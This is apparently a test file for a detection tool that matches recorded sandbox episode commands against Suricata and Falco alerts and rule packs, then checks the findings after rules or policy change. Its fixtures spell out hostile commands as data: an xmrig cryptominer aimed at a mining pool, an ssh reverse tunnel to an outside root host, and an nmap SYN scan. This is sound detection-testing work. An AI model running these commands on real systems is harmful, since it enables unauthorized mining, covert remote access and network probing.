import { mkdirSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parquetWriteFile } from 'hyparquet-writer';
import { describe, expect, it } from 'vitest';
import { eve, falco, minutes, noon, readParquet, rollRow, type TestEpisode } from '../correlate/world.ts';
import { temporaryFolder } from '../support/temporary.ts';
import { hashesOf, trajsieve } from '../support/trajsieve.ts';
import { writeRules } from './support.ts';

const hour = { start: noon, end: noon + 20 * minutes };
const episodes: readonly TestEpisode[] = [
  { ...hour, id: 'quiet', host: '10.0.0.1' },
  {
    ...hour,
    id: 'miner',
    host: '10.0.0.2',
    commands: ['ls', './xmrig -o stratum+tcp://45.9.148.3:3333 -u w'],
  },
  // seen by a sensor alone
  { ...hour, id: 'hidden', host: '10.0.0.3', sandbox: 'sb-hidden', commands: ['bash update.sh'] },
  // seen by no sensor
  { ...hour, id: 'tunnel', host: '10.0.0.4', commands: ['ssh -f -N -R 2222:localhost:22 root@203.0.113.7'] },
  // where the scan goes is what the alert is about
  { ...hour, id: 'scanner', host: '10.0.0.5', commands: ['ls', 'nmap -sS 198.51.100.9'] },
];

const alerts = [
  eve({ time: noon + 5 * minutes, from: '10.0.0.2' }),
  eve({
    time: noon + 6 * minutes,
    from: '10.0.0.5',
    to: '198.51.100.9',
    port: 22,
    signature: 'ET SCAN Nmap',
  }),
  eve({ time: noon + 7 * minutes, from: '10.0.0.77' }),
];

async function writeInput(path: string): Promise<void> {
  const rows = episodes.map(rollRow);
  if (path.endsWith('.jsonl')) {
    writeFileSync(path, rows.map((row) => `${JSON.stringify(row)}\n`).join(''));
    return;
  }
  const columns = Object.keys(rows[0]!).map((name) => ({ name, data: rows.map((row) => row[name]) }));
  const columnData = columns.map(({ name, data }) => ({
    name,
    data,
    type: typeof data[0] === 'number' ? ('INT32' as const) : ('STRING' as const),
  }));
  await parquetWriteFile({ filename: path, columnData });
}

/** A run with alerts, by the rules of `before`. */
async function ranWithAlerts(name: string) {
  const folder = temporaryFolder();
  mkdirSync(join(folder, 'before'));
  const before = writeRules(join(folder, 'before'));
  const input = join(folder, name);
  await writeInput(input);
  const files = [join(folder, 'eve.json'), join(folder, 'falco.json')];
  writeFileSync(files[0]!, `${alerts.join('\n')}\n`);
  writeFileSync(files[1]!, `${falco(noon + 7 * minutes, { 'container.name': 'sb-hidden' })}\n`);
  const run = (out: string, pack: string) =>
    trajsieve([
      'run',
      input,
      '--alerts',
      ...files,
      '--classifiers',
      pack,
      '--out',
      join(folder, out),
      '-q',
      '--workers',
      '1',
    ]);
  expect(run('first', before).status).toBe(0);
  const compose = (out: string, ...words: string[]) =>
    trajsieve(
      ['compose', join(folder, 'first'), '--out', join(folder, out), '-q', '--workers', '1', ...words],
      {
        TRAJSIEVE_CLASSIFIERS: undefined,
      },
    );
  return { folder, files, run, compose, findings: (out: string) => findingsOf(join(folder, out)) };
}

async function findingsOf(out: string): Promise<string[]> {
  const paths = Object.keys(hashesOf(out)).filter((path) => path.startsWith('findings/'));
  const rows = await readParquet(...paths.map((path) => join(out, path)));
  return rows.map(
    ({ id, rule, severity }) => `${id} ${String(rule).split(':').slice(0, 2).join(':')} ${severity}`,
  );
}

describe.each(['episodes.jsonl', 'episodes.parquet'])('a run with alerts over %s', (name) => {
  it('is decided again with other classifiers as a run with them and the alerts decides', async () => {
    const { folder, run, compose, findings } = await ranWithAlerts(name);
    expect(await findings('first')).toEqual([
      'miner own-miner critical',
      'miner telemetry:suricata critical',
      'hidden telemetry:falco critical',
      'tunnel own-tunnel critical',
      'scanner own-scan high',
      'scanner telemetry:suricata critical',
    ]);
    mkdirSync(join(folder, 'now'));
    const now = writeRules(join(folder, 'now'));
    const miner = join(now, 'mining', 'rule.yml');
    writeFileSync(miner, readFileSync(miner, 'utf8').replace('level: high', 'level: low'));
    const scan = join(now, 'network-probing', 'rule.yml');
    const script = readFileSync(scan, 'utf8').replace('own-scan', 'own-script').replace('/nmap', '/bash');
    writeFileSync(join(now, 'network-probing', 'new.yml'), script);
    expect(run('whole', now).status).toBe(0);
    const composed = compose('composed', '--classifiers', now);
    expect(composed).toMatchObject({ stderr: '', status: 0 });
    expect(await findings('composed')).toEqual([
      // found anew and borne out again, so a level more, once; of the script no alert says that it is the cause
      'miner own-miner medium',
      'miner telemetry:suricata critical',
      'hidden own-script medium',
      'hidden telemetry:falco critical',
      'tunnel own-tunnel critical',
      'scanner own-scan high',
      'scanner telemetry:suricata critical',
    ]);
    expect(hashesOf(join(folder, 'composed'))).toEqual(hashesOf(join(folder, 'whole')));
  }, 120_000);

  it('is decided again by another policy, and not where its alerts have changed since', async () => {
    const { folder, files, compose } = await ranWithAlerts(name);
    expect(compose('strict', '--policy', 'strict').status).toBe(0);
    expect(await findingsOf(join(folder, 'strict'))).toEqual(await findingsOf(join(folder, 'first')));
    writeFileSync(files[0]!, `${alerts[0]}\n`);
    const { status, stderr } = compose('changed', '--policy', 'strict');
    expect(status).toBe(1);
    expect(stderr).toContain('alerts were changed since the run');
    expect(stderr).toContain('run the inputs again');
  }, 120_000);
});
